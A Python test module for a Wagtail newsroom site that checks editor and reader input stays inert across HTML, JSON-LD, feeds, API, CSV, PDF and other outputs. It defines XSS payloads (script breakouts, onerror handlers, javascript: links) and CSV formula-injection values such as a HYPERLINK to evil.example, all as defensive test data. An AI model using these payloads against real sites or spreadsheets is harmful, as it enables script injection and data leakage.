"""Editor-entered text stays text: an XSS payload in every field x every channel.

Every field an editor fills in (and the two a reader types: the search query and a
filter value) holds PAYLOAD: ``</script>`` to break out of JSON-LD, a script element, an
image with an event handler, a quote and a handler to break out of an attribute, the
other quote and an ampersand. Each case
reads one channel and checks two things:

- nothing became markup: no script but JSON-LD and our own files, no event-handler
  attribute, no ``javascript:`` link; JSON-LD contains no raw ``<``; the Atom feed is
  well-formed XML without such elements; JSON, CSV and plain-text answers say so in
  their Content-Type (with ``nosniff``);
- the field's value is *shown*, whole and unmangled, as text (or an attribute value,
  a JSON string, an XML text, a CSV cell), so the case cannot pass by leaving the
  field out.

Rich text is the exception: an editor's rich text keeps Wagtail's allowed markup only,
so a ``<script>`` sent through the admin or an import is removed or escaped.

The second test checks the CSV export's defence against spreadsheet formulas.
"""

import csv
import datetime
import io
import json
import re
import subprocess
import zipfile
from dataclasses import dataclass, field
from html.parser import HTMLParser

import feedparser
import pytest
import vobject
from defusedxml import ElementTree
from django.contrib.auth import get_user_model
from django.core.files.base import ContentFile
from django.db import transaction
from django.test import Client, override_settings
from wagtail.documents import get_document_model
from wagtail.images import get_image_model
from wagtail.images.tests.utils import get_test_image_file
from wagtail.models import Locale

from newsroom import kinds
from newsroom.editorial.site_tree import ensure_site_tree
from newsroom.loading.importing import import_records
from newsroom.models import (
    Correction,
    MediaContact,
    PressReleasePage,
    RegulationTranslation,
    RelatedRelease,
    ReleaseContact,
)
from tests.factories import (
    OrganisationFactory,
    RegionFactory,
    RegulationFactory,
    SectorFactory,
    TopicFactory,
    admin_form_errors,
    key_figures_block,
    make_official,
    make_release,
    release_admin_form_data,
    release_admin_url,
)

# Closes a JSON-LD script, opens one, adds an image with a handler, then quotes and
# a handler to break out of an attribute, and an ampersand.
PAYLOAD = (
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
    "\" onblur=alert(1) '&"
)
SHORT_PAYLOAD = "<i onblur=alert(1)>\"'&"  # for fields of at most 50 characters
FACETS = ("official", "organisation", "sector", "region", "topic", "regulation")
assert set(FACETS) == set(kinds.NAMES), "a kind is missing here"
# A regulation's name is made from its type, number and year: the payload goes in
# its number (at most 30 characters), and the name shows it in each language.
REGULATION_NUMBER = SHORT_PAYLOAD
REGULATION_NAME = {
    "en": f"Law No. {REGULATION_NUMBER} of 2020",
    "id": f"Undang-Undang Nomor {REGULATION_NUMBER} Tahun 2020",
}


def value(name):
    """What field ``name`` holds: its name (to tell fields apart) and the payload."""
    return f"{name}: {SHORT_PAYLOAD if name in SHORT_FIELDS else PAYLOAD}"


def entity_name(kind, code="en"):
    """The name an entity of ``kind`` in the world is shown by."""
    return REGULATION_NAME[code] if kind == "regulation" else value(f"{kind}-name")


SHORT_FIELDS = {"reference", "official-honorific"}
# Standfirsts a feed reader must show as these very characters, not as markup.
READER_TEXTS = ['"><img src=x onerror=alert(1)>', "<b>bold</b>"]
CORRECTED_ON = datetime.datetime(2024, 10, 2, 10, 0, tzinfo=datetime.UTC)


# --- the fields, and where each must come out ----------------------------------------


@dataclass(frozen=True)
class Field:
    channels: tuple
    release: str = "main"  # the release carrying it
    entity: str = "sector"  # the hub / feed it is read on (an entity's own)
    params: dict = field(default_factory=dict)  # query parameters carrying it
    shown: str = ""  # what must be shown, when not the field's value itself


RELEASE_LISTED = ("page", "listing", "hub", "home", "jsonld", "feed", "api")
ENTITY_NAME = (
    "page",
    "listing",
    "chips",
    "hub",
    "hub-index",
    "jsonld",
    "feed",
    "hub-feed",
    "api",
    "csv",
)
# The release's downloads (#19): its ninjs, PDF and the press kit's Markdown.
DOWNLOADS = ("ninjs", "pdf", "markdown")


# The figures tracker groups figures by sector or region: their names show there.
GROUPED_NAME = (*ENTITY_NAME, "figures", "figures-csv", "figures-api")
FIELDS = {
    "title": Field((*RELEASE_LISTED, "csv", "related", "api-browsable", *DOWNLOADS)),
    "standfirst": Field((*RELEASE_LISTED, *DOWNLOADS)),
    "dateline": Field(("page", "listing", "hub", "jsonld", "api", "csv", *DOWNLOADS)),
    "reference": Field(("page", "api", "csv", *DOWNLOADS)),
    "official-name": Field(ENTITY_NAME, entity="official"),
    "official-honorific": Field(("page", "hub", "jsonld"), entity="official"),
    "official-role": Field(("page", "jsonld", "api", "csv")),
    "official-position": Field(("hub", "jsonld", "api"), entity="official"),
    "official-bio": Field(("hub", "jsonld", "api"), entity="official"),
    "organisation-name": Field(ENTITY_NAME, entity="organisation"),
    "sector-name": Field(GROUPED_NAME, entity="sector"),
    "sector-description": Field(("hub", "api"), entity="sector"),
    "region-name": Field(GROUPED_NAME, entity="region"),
    # A province of Indonesia on the map of provinces: its link's name and title
    # and its row in the table, on the region index (both languages) and its hub.
    "province-name": Field(("region-map", "region-map-id", "region-map-hub")),
    "topic-name": Field(ENTITY_NAME, entity="topic"),
    "regulation-name": Field(
        ENTITY_NAME, entity="regulation", shown=REGULATION_NAME["en"]
    ),
    # In the release list's "regulations" and on the release page; the register's
    # own endpoint below.
    "regulation-title": Field(("page", "hub", "api"), entity="regulation"),
    "regulation-register-title": Field(
        ("api",), entity="regulation", shown=value("regulation-title")
    ),
    "quote-text": Field(("page", "pdf", "markdown")),
    "quote-attribution": Field(("page", "markdown")),
    "image-alt": Field(("page",)),
    "image-caption": Field(("page", "markdown", "ninjs", "credits")),
    "image-credit": Field(("page", "ninjs", "credits")),
    "hero-image-alt": Field(("page",)),
    # The picture's own rights and caption, in the page's Media section.
    "picture-credit": Field(("page",)),
    "picture-licence": Field(("page",)),
    "picture-caption": Field(("page",)),
    "table-cell": Field(("page", "pdf", "markdown")),
    "table-caption": Field(("page",)),
    "document-title": Field(("page",)),
    "key-figure-label": Field(("page", "api", "csv", "pdf", "markdown")),
    "media-contact": Field(("page",)),
    # Media contacts and the organisation's boilerplate (#19).
    "contact-name": Field(("page", "api", "vcard", *DOWNLOADS)),
    "contact-role": Field(("page", "api", "vcard", *DOWNLOADS)),
    "organisation-boilerplate": Field(("page", "pdf", "markdown")),
    "correction-note": Field(("page", "feed")),
    "withdrawal-reason": Field(("page", "api"), release="withdrawn"),
    # Typed into the rich text editor: shown as text, and its javascript: link
    # loses its href (see typed_rich_text).
    "rich-text-typed": Field(("page",), release="typed"),
    # Raw HTML from an import: the script and handler go, the paragraph stays.
    "rich-text-imported": Field(
        ("page",), release="imported", shown="rich-text-imported: kept"
    ),
    # What readers type is echoed back: the query, and an unknown filter value.
    "search-query": Field(
        ("listing", "hub", "feed"),
        params={"q": value("search-query")},
        # shown as the search understood it: double quotes (phrase syntax) dropped
        shown=" ".join(value("search-query").replace('"', " ").split()),
    ),
    "bad-filter-value": Field(
        ("listing", "hub", "feed", "api", "csv"),
        params={"sector": value("bad-filter-value")},
    ),
}


# --- the world: one release carrying every field, built once for the module ---------


def create_world(admin):
    ensure_site_tree()
    organisation = OrganisationFactory(
        name=value("organisation-name"), boilerplate=value("organisation-boilerplate")
    )
    official = make_official(
        value("official-name"),
        [(value("official-position"), organisation, "2020-01-01", None)],
        honorific=value("official-honorific"),
        bio=value("official-bio"),
    )
    entities = {
        "official": official,
        "organisation": organisation,
        "sector": SectorFactory(
            name=value("sector-name"), description=value("sector-description")
        ),
        "region": RegionFactory(name=value("region-name")),
        "topic": TopicFactory(name=value("topic-name")),
        "regulation": RegulationFactory(
            type="law",
            number=REGULATION_NUMBER,
            year=2020,
            title=value("regulation-title"),
        ),
    }
    # Its Indonesian name made for it (Undang-Undang Nomor ...), its title as typed.
    RegulationTranslation.objects.create(
        entity=entities["regulation"],
        locale=Locale.objects.get(language_code="id"),
        title=value("regulation-title"),
    )
    country = RegionFactory(
        name="Indonesia", slug="indonesia", kind="country", iso_code="ID"
    )
    province = RegionFactory(
        name=value("province-name"),
        parent=country,
        kind="province",
        kemendagri_code="72",
    )
    image_model = get_image_model()
    picture = image_model.objects.create(
        title="Smelter", file=get_test_image_file(size=(900, 600))
    )
    hero = image_model.objects.create(
        title="Hero",
        description=value("hero-image-alt"),
        credit=value("picture-credit"),
        licence=value("picture-licence"),
        caption_en=value("picture-caption"),
        file=get_test_image_file(size=(1300, 700)),
    )
    document = get_document_model().objects.create(
        title="Annex", file=ContentFile(b"%PDF-1.4\n", name="annex.pdf")
    )
    body = [
        {"type": "paragraph", "value": "<p>The smelter opens.</p>"},
        {
            "type": "quote",
            "value": {
                "text": value("quote-text"),
                "official": official.pk,
                "attribution": value("quote-attribution"),
            },
        },
        {
            "type": "image",
            "value": {
                "image": {
                    "image": picture.pk,
                    "alt_text": value("image-alt"),
                    "decorative": False,
                },
                "caption": value("image-caption"),
                "credit": value("image-credit"),
            },
        },
        {
            "type": "table",
            "value": {
                "data": [["Item", "Amount"], [value("table-cell"), "3"]],
                "first_row_is_table_header": True,
                "first_col_is_header": False,
                "table_caption": value("table-caption"),
            },
        },
        {
            "type": "document",
            "value": {"document": document.pk, "title": value("document-title")},
        },
        key_figures_block((3000, "jobs", False, value("key-figure-label"))),
    ]
    main = make_release(
        value("title"),
        slug="main",
        standfirst=value("standfirst"),
        dateline=value("dateline"),
        reference=value("reference"),
        media_contact_name=value("media-contact"),
        hero_image=hero,
        featured=True,
        body=json.dumps(body),
        officials=[(official, value("official-role"), True)],
        organisations=[organisation],
        sectors=[entities["sector"]],
        regions=[entities["region"], province],
        topics=[entities["topic"]],
        regulations=[entities["regulation"]],
    )
    Correction.objects.create(
        page=main, note=value("correction-note"), date=CORRECTED_ON
    )
    contact = MediaContact.objects.create(
        name=value("contact-name"),
        slug="payload-contact",
        role=value("contact-role"),
        phone="+62 21 525 5509",
        email="press@example.org",
    )
    ReleaseContact.objects.create(page=main, contact=contact, sort_order=0)
    referrer = make_release("Earlier statement", slug="referrer")
    RelatedRelease.objects.create(page=referrer, release=main)
    withdrawn = make_release(
        "Withdrawn statement",
        slug="withdrawn",
        withdrawn=True,
        withdrawn_on=datetime.date(2024, 10, 1),
        withdrawal_reason=value("withdrawal-reason"),
    )
    readers = create_reader_releases(main, entities)
    return {
        "entities": entities,
        "province": province,
        "readers": readers,
        "releases": {
            "main": main,
            "referrer": referrer,
            "withdrawn": withdrawn,
            "typed": typed_rich_text(admin),
            "imported": imported_rich_text(),
        },
        "formulas": create_formula_releases(),
    }


def create_reader_releases(main, entities):
    """The releases whose texts the feed-reader test reads back, each in English
    and in Indonesian (its translation): the main one with every payload, and one
    per READER_TEXTS standfirst, linked to every entity so each hub feed has them."""
    releases = [main]
    for number, text in enumerate(READER_TEXTS, start=1):
        release = make_release(
            f"reader-{number}: {text}",
            slug=f"reader-{number}",
            standfirst=text,
            officials=[entities["official"]],
            organisations=[entities["organisation"]],
            sectors=[entities["sector"]],
            regions=[entities["region"]],
            topics=[entities["topic"]],
            regulations=[entities["regulation"]],
        )
        Correction.objects.create(page=release, note=text, date=CORRECTED_ON)
        releases.append(release)
    indonesian = Locale.objects.get(language_code="id")
    ensure_site_tree(indonesian)
    for release in list(releases):
        copy = release.copy_for_translation(indonesian)
        copy.title = f"{release.title} (id)"
        copy.save_revision().publish()
        releases.append(PressReleasePage.objects.get(pk=copy.pk))
    return releases


def typed_rich_text(admin):
    """A release published in the admin whose editor typed the payload as text and
    linked a word to ``javascript:``: what the Draftail editor sends is the
    contentstate below, which the server turns into stored HTML."""
    newsroom = ensure_site_tree()
    text = value("rich-text-typed")
    contentstate = {
        "blocks": [
            {
                "key": "typed",
                "type": "unstyled",
                "depth": 0,
                "text": f"{text} link",
                "inlineStyleRanges": [],
                "entityRanges": [{"offset": len(text) + 1, "length": 4, "key": 0}],
                "data": {},
            }
        ],
        "entityMap": {
            "0": {
                "type": "LINK",
                "mutability": "MUTABLE",
                "data": {"url": "javascript:alert(1)"},
            }
        },
    }
    data = release_admin_form_data(
        action="publish",
        title="Typed rich text",
        slug="typed",
        body_paragraphs=["<p>placeholder</p>"],
    )
    data["body-0-value"] = json.dumps(contentstate)
    response = admin.post(release_admin_url(newsroom=newsroom), data)
    assert response.status_code == 302, admin_form_errors(response)
    return PressReleasePage.objects.get(slug="typed")


def imported_rich_text():
    """A release imported from an archive whose body_html carries the payload raw."""
    record = {
        "title": "Imported rich text",
        "slug": "imported",
        "date": "2024-09-27",
        "summary": "An archived statement.",
        "body_html": f"<p>rich-text-imported: kept</p>{PAYLOAD}"
        '<p><a href="javascript:alert(1)">link</a></p>',
    }
    report = import_records([(1, record)])
    assert report.created == 1, report.failures
    return PressReleasePage.objects.get(slug="imported")


@pytest.fixture(scope="module")
def _module_media(tmp_path_factory):
    return tmp_path_factory.mktemp("media")


@pytest.fixture(autouse=True)
def _media_root(settings, _module_media):
    """Replaces conftest's: the module's images must outlive one test."""
    settings.MEDIA_ROOT = _module_media


@pytest.fixture(scope="module")
def _world(django_db_setup, django_db_blocker, _module_media):
    with (
        django_db_blocker.unblock(),
        override_settings(MEDIA_ROOT=_module_media),
        transaction.atomic(),
    ):
        admin = Client()
        admin.force_login(
            get_user_model().objects.create_superuser("escaper", "e@example.org")
        )
        yield create_world(admin)
        transaction.set_rollback(True)


@pytest.fixture
def world(_world, db):
    return _world


# --- reading a channel: each answer checked inert, then asked what it shows ---------


def strings(data):
    """Every string in a JSON document."""
    if isinstance(data, str):
        yield data
    elif isinstance(data, dict):
        for item in data.values():
            yield from strings(item)
    elif isinstance(data, list):
        for item in data:
            yield from strings(item)


class Markup(HTMLParser):
    """What a browser would build: tags with attributes, text, script contents."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.tags, self.texts, self.scripts = [], [], []
        self._script = None
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        attrs = {name: value or "" for name, value in attrs}
        self.tags.append((tag, attrs))
        if tag == "script":
            self._script = [attrs, ""]
            self.scripts.append(self._script)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        if tag == "script":
            self._script = None

    def handle_data(self, data):
        if self._script is not None:
            self._script[1] += data
        else:
            self.texts.append(data)


class Output:
    """One answer of a channel: ``values`` are the strings a reader is shown."""

    values = ()

    def shows(self, expected):
        return any(expected in text for text in self.values)


class HtmlOutput(Output):
    def __init__(self, response):
        assert response["Content-Type"].startswith("text/html")
        self.markup = Markup(response.content.decode())
        for tag, attrs in self.markup.tags:
            handlers = [name for name in attrs if name.startswith("on")]
            assert not handlers, (tag, attrs)
            # A quote that escaped its attribute leaves names like '&" behind.
            assert all(re.fullmatch(r"[\w:.-]+", name) for name in attrs), attrs
            for name in ("href", "src", "action", "formaction"):
                url = "".join(attrs.get(name, "").split()).lower()
                assert not url.startswith("javascript:"), (tag, attrs)
            assert not (tag == "img" and attrs.get("src") == "x"), attrs
        for attrs, content in self.markup.scripts:
            if attrs.get("type") == "application/ld+json":
                # JSON-LD escapes < > & so no value can close the element.
                assert not set("<>&") & set(content), content
            else:
                assert "alert(" not in content, content
        self.values = [
            *self.markup.texts,
            *(value for _, attrs in self.markup.tags for value in attrs.values()),
        ]


class JsonLdOutput(Output):
    def __init__(self, response):
        markup = HtmlOutput(response).markup
        blocks = [
            json.loads(content)
            for attrs, content in markup.scripts
            if attrs.get("type") == "application/ld+json"
        ]
        assert blocks
        self.values = list(strings(blocks))


class FeedOutput(Output):
    def __init__(self, response):
        assert response["Content-Type"].startswith("application/atom+xml")
        root = ElementTree.fromstring(response.content)  # raises unless well-formed
        local_names = {element.tag.rsplit("}", 1)[-1] for element in root.iter()}
        assert not local_names & {"script", "img"}, local_names
        assert not feedparser.parse(response.content).bozo
        self.values = [
            text
            for element in root.iter()
            for text in [element.text or "", *element.attrib.values()]
        ]


class JsonOutput(Output):
    """Inert by type; the values come through unchanged (not HTML-escaped)."""

    def __init__(self, response):
        assert response["Content-Type"].startswith("application/json")
        assert response["X-Content-Type-Options"] == "nosniff"
        self.values = list(strings(response.json()))


class BrowsableApiOutput(HtmlOutput):
    """DRF's HTML rendering of the API shows the JSON text, escaped."""

    def shows(self, expected):
        return super().shows(json.dumps(expected, ensure_ascii=False)[1:-1])


class CsvOutput(Output):
    def __init__(self, response):
        assert response["Content-Type"].startswith("text/csv")
        assert response["Content-Disposition"].startswith("attachment")
        assert response["X-Content-Type-Options"] == "nosniff"
        text = b"".join(response.streaming_content).decode()
        self.rows = list(csv.DictReader(io.StringIO(text)))
        self.values = [cell for row in self.rows for cell in row.values()]


class PlainTextOutput(Output):
    """A 400 naming the bad parameter, as text/plain: no browser renders it."""

    def __init__(self, response):
        assert response.status_code == 400
        assert response["Content-Type"].startswith("text/plain")
        assert response["X-Content-Type-Options"] == "nosniff"
        self.values = [response.content.decode()]


def answer(response, output, errors=PlainTextOutput):
    if response.status_code == 400:
        return (JsonOutput if output is JsonOutput else errors)(response)
    assert response.status_code == 200, response.status_code
    return output(response)


def hub_path(entity):
    return entity.get_absolute_url()


def read_page(client, world, spec, name):
    url = world["releases"][spec.release].url
    return HtmlOutput(client.get(url))


def read_listing(client, world, spec, name):
    return HtmlOutput(client.get("/news/", spec.params))


def read_chips(client, world, spec, name):
    """/news/ filtered by every entity: each shows as a removable chip."""
    params = {facet: entity.slug for facet, entity in world["entities"].items()}
    output = HtmlOutput(client.get("/news/", params))
    chips = [
        attrs
        for tag, attrs in output.markup.tags
        if tag == "a" and "chip" in attrs.get("class", "").split()
    ]
    assert len(chips) == len(FACETS)
    return output


def read_hub(client, world, spec, name):
    return HtmlOutput(client.get(hub_path(world["entities"][spec.entity]), spec.params))


def read_hub_index(client, world, spec, name):
    return HtmlOutput(client.get(f"/news/{spec.entity}s/"))


class MapOutput(HtmlOutput):
    """A page with the map of provinces: inert throughout; what it shows is read
    from the map alone (its links' names and titles, its table)."""

    def __init__(self, response):
        super().__init__(response)
        html = response.content.decode()
        start = html.index('<figure class="region-map')
        markup = Markup(html[start : html.index("</figure>", start)])
        self.values = [
            *markup.texts,
            *(value for _, attrs in markup.tags for value in attrs.values()),
        ]


def read_region_map(client, world, spec, name):
    return MapOutput(client.get("/news/regions/"))


def read_region_map_id(client, world, spec, name):
    return MapOutput(client.get("/id/news/regions/"))


def read_region_map_hub(client, world, spec, name):
    return MapOutput(client.get(hub_path(world["province"])))


def read_home(client, world, spec, name):
    return HtmlOutput(client.get("/"))


def read_related(client, world, spec, name):
    return HtmlOutput(client.get(world["releases"]["referrer"].url))


def read_jsonld(client, world, spec, name):
    if spec.entity == "official" and spec.release == "main":
        # official-* fields: the Person on the official's hub, and the release's
        # NewsArticle (name, role) together.
        hub = JsonLdOutput(client.get(hub_path(world["entities"]["official"])))
        page = JsonLdOutput(client.get(world["releases"]["main"].url))
        hub.values += page.values
        return hub
    return JsonLdOutput(client.get(world["releases"][spec.release].url))


def read_feed(client, world, spec, name):
    """/news/feed/; an entity's field is read filtered by it (the feed's title)."""
    params = dict(spec.params)
    if spec.channels in (ENTITY_NAME, GROUPED_NAME):
        params[spec.entity] = world["entities"][spec.entity].slug
    return answer(client.get("/news/feed/", params), FeedOutput)


# Fields the release list of the API does not carry, and where they are instead.
API_PATHS = {
    "withdrawal-reason": lambda world: (
        f"/api/v2/releases/{world['releases']['withdrawn'].pk}/"
    ),
    "official-position": lambda world: "/api/v2/officials/",
    "official-bio": lambda world: "/api/v2/officials/",
    "sector-description": lambda world: "/api/v2/sectors/",
    "regulation-register-title": lambda world: "/api/v2/regulations/",
    "contact-name": lambda world: f"/api/v2/releases/{world['releases']['main'].pk}/",
    "contact-role": lambda world: f"/api/v2/releases/{world['releases']['main'].pk}/",
}


def read_hub_feed(client, world, spec, name):
    path = f"{hub_path(world['entities'][spec.entity])}feed/"
    return answer(client.get(path), FeedOutput)


def read_api(client, world, spec, name):
    path = API_PATHS.get(name, lambda world: "/api/v2/releases/")(world)
    return answer(client.get(path, spec.params), JsonOutput)


def read_api_browsable(client, world, spec, name):
    return BrowsableApiOutput(client.get("/api/v2/releases/", HTTP_ACCEPT="text/html"))


def read_csv(client, world, spec, name):
    return answer(client.get("/news/export.csv", spec.params), CsvOutput)


class PdfOutput(Output):
    """A PDF runs no markup: the check is that each value is printed as typed
    (pdftotext's line breaks and spaces set aside)."""

    def __init__(self, response):
        assert response["Content-Type"] == "application/pdf"
        result = subprocess.run(
            ["pdftotext", "-", "-"],
            input=response.content,
            capture_output=True,
            check=True,
        )
        self.values = ["".join(result.stdout.decode().split())]

    def shows(self, expected):
        return super().shows("".join(expected.split()))


MARKDOWN_ESCAPED = re.compile(r"\\(.)")


class MarkdownOutput(Output):
    """The press kit's release.md: no raw ``<`` for a Markdown viewer to render
    as HTML; values read with Markdown's backslash escapes undone."""

    def __init__(self, response):
        archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
        self.text = archive.read(self.member).decode()
        assert not re.search(r"(?<!\\)<", self.text), self.text
        self.values = [MARKDOWN_ESCAPED.sub(r"\1", self.text)]

    member = "release.md"


class CreditsOutput(Output):
    def __init__(self, response):
        archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
        self.values = [archive.read("CREDITS.txt").decode()]


class VcardOutput(Output):
    def __init__(self, response):
        assert response["Content-Type"].startswith("text/vcard")
        assert response["X-Content-Type-Options"] == "nosniff"
        card = vobject.readOne(response.content.decode())
        self.values = [
            str(line.value) for lines in card.contents.values() for line in lines
        ]


def read_download(name, output):
    def read(client, world, spec, field_name):
        url = world["releases"]["main"].url
        return answer(client.get(f"{url}{name}"), output)

    return read


def read_vcard(client, world, spec, name):
    return VcardOutput(client.get("/news/contacts/payload-contact.vcf"))


def read_figures(client, world, spec, name):
    return HtmlOutput(client.get("/news/figures/", {"group": spec.entity}))


def read_figures_csv(client, world, spec, name):
    response = client.get("/news/figures/export.csv", {"group": spec.entity})
    return answer(response, CsvOutput)


def read_figures_api(client, world, spec, name):
    return answer(client.get("/api/v2/figures/", {"group": spec.entity}), JsonOutput)


CHANNELS = {
    "ninjs": read_download("ninjs.json", JsonOutput),
    "pdf": read_download("release.pdf", PdfOutput),
    "markdown": read_download("press-kit.zip", MarkdownOutput),
    "credits": read_download("press-kit.zip", CreditsOutput),
    "vcard": read_vcard,
    "page": read_page,
    "listing": read_listing,
    "chips": read_chips,
    "hub": read_hub,
    "hub-index": read_hub_index,
    "region-map": read_region_map,
    "region-map-id": read_region_map_id,
    "region-map-hub": read_region_map_hub,
    "home": read_home,
    "related": read_related,
    "jsonld": read_jsonld,
    "feed": read_feed,
    "hub-feed": read_hub_feed,
    "api": read_api,
    "api-browsable": read_api_browsable,
    "csv": read_csv,
    "figures": read_figures,
    "figures-csv": read_figures_csv,
    "figures-api": read_figures_api,
}


@pytest.mark.parametrize(
    ("name", "channel"),
    [
        pytest.param(name, channel, id=f"{name}-{channel}")
        for name, spec in FIELDS.items()
        for channel in spec.channels
    ],
)
def test_field_comes_out_inert(client, world, name, channel):
    spec = FIELDS[name]
    output = CHANNELS[channel](client, world, spec, name)
    assert output.shows(spec.shown or value(name)), output.values


# --- CSV: a cell a spreadsheet would run as a formula is neutralised ----------------

FORMULA_PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
FORMULA_COLUMNS = [
    "title",
    "reference",
    "dateline",
    "officials",
    "organisations",
    "sectors",
    "regions",
    "topics",
    "key_figures",
]


def formula(prefix, column):
    return f'{prefix}HYPERLINK("http://evil.example/?{column}","x")'


def create_formula_releases():
    """One release per prefix, every exported text column starting with it."""
    releases = {}
    for number, prefix in enumerate(FORMULA_PREFIXES):
        slug = f"formula-{number}"
        releases[prefix] = make_release(
            formula(prefix, "title"),
            slug=slug,
            reference=f"{prefix}1+1",
            dateline=f"{prefix}cmd",
            body=json.dumps(
                [key_figures_block((5, "MW", False, formula(prefix, "key_figures")))]
            ),
            officials=[
                make_official(formula(prefix, "officials"), slug=f"{slug}-official")
            ],
            organisations=[
                OrganisationFactory(
                    name=formula(prefix, "organisations"), slug=f"{slug}-org"
                )
            ],
            sectors=[
                SectorFactory(name=formula(prefix, "sectors"), slug=f"{slug}-sector")
            ],
            regions=[
                RegionFactory(name=formula(prefix, "regions"), slug=f"{slug}-region")
            ],
            topics=[TopicFactory(name=formula(prefix, "topics"), slug=f"{slug}-topic")],
            # Its name is made from its type first: the number cannot lead a cell.
            regulations=[
                RegulationFactory(type="law", number=f"{prefix}cmd", year=2001 + number)
            ],
        )
    return releases


@pytest.mark.parametrize("column", FORMULA_COLUMNS)
@pytest.mark.parametrize(
    "prefix", FORMULA_PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"]
)
def test_export_neutralises_formulas(client, world, prefix, column):
    release = world["formulas"][prefix]
    output = read_csv(client, world, FIELDS["title"], "title")
    [row] = [row for row in output.rows if row["url"].endswith(release.url)]
    cell = row[column]
    # A leading apostrophe makes the spreadsheet show the cell as text.
    assert cell.startswith(f"'{prefix}"), repr(cell)
    assert cell[1:].startswith(
        formula(prefix, column) if column not in ("reference", "dateline") else prefix
    )


@pytest.mark.parametrize(
    "prefix", FORMULA_PREFIXES, ids=["eq", "plus", "minus", "at", "tab", "cr"]
)
def test_export_of_a_regulation_numbered_like_a_formula(client, world, prefix):
    """A regulation's cell starts with its type's name, whatever its number holds
    (=cmd): shown as typed, and no spreadsheet runs it."""
    release = world["formulas"][prefix]
    [regulation] = release.regulations
    output = read_csv(client, world, FIELDS["title"], "title")
    [row] = [row for row in output.rows if row["url"].endswith(release.url)]
    cell = row["regulations"]
    assert cell == regulation.name
    assert cell.startswith("Law No. ")
    assert not cell.startswith(tuple(FORMULA_PREFIXES))
    if prefix.strip():  # a leading tab or return is trimmed from a number
        assert f"No. {prefix}cmd of" in cell


# --- what a feed reader renders: the text itself, in every feed and language --------

# What "Updated <date>:" before a correction note reads as in each feed's language.
UPDATED = {"en": "Updated 2 October 2024: ", "id": "Diperbarui 2 Oktober 2024: "}
FEED_TITLE = {"en": "Releases: ", "id": "Siaran pers: "}


READER_FEEDS = [
    pytest.param(prefix, code, kind, id=f"{code}-{kind or 'news'}")
    for prefix, code in (("", "en"), ("/id", "id"))
    for kind in (None, *FACETS)
]


@pytest.mark.parametrize(("prefix", "code", "kind"), READER_FEEDS)
def test_feed_reader_shows_texts_as_typed(client, world, prefix, code, kind):
    """Parsed as a feed reader parses it (feedparser, which sanitises HTML it is
    told is HTML), each entry's title and summary are the editor's characters:
    the standfirst, then each correction's note after its date, never markup."""
    if kind is None:
        path = f"{prefix}/news/feed/"
    else:
        path = f"{prefix}/news/{kind}s/{world['entities'][kind].slug}/feed/"
    response = client.get(path)
    FeedOutput(response)  # well-formed, no script or img elements
    parsed = feedparser.parse(response.content)
    if kind is not None:
        name = entity_name(kind, code)
        assert parsed.feed.title == f"{FEED_TITLE[code]}{name}"
    entries = {entry.link: entry for entry in parsed.entries}
    releases = [r for r in world["readers"] if r.locale.language_code == code]
    assert len(releases) == 1 + len(READER_TEXTS)
    for release in releases:
        entry = entries[release.full_url]
        note = release.corrections.get().note
        assert entry.title == release.title
        assert entry.summary == f"{release.standfirst}\n\n{UPDATED[code]}{note}"
        assert entry.summary_detail.type == "text/plain"
        assert entry.author == value("organisation-name")
        names = {tag.term for tag in entry.tags}
        assert {value(f"{kind}-name") for kind in ("sector", "region", "topic")} <= (
            names
        )
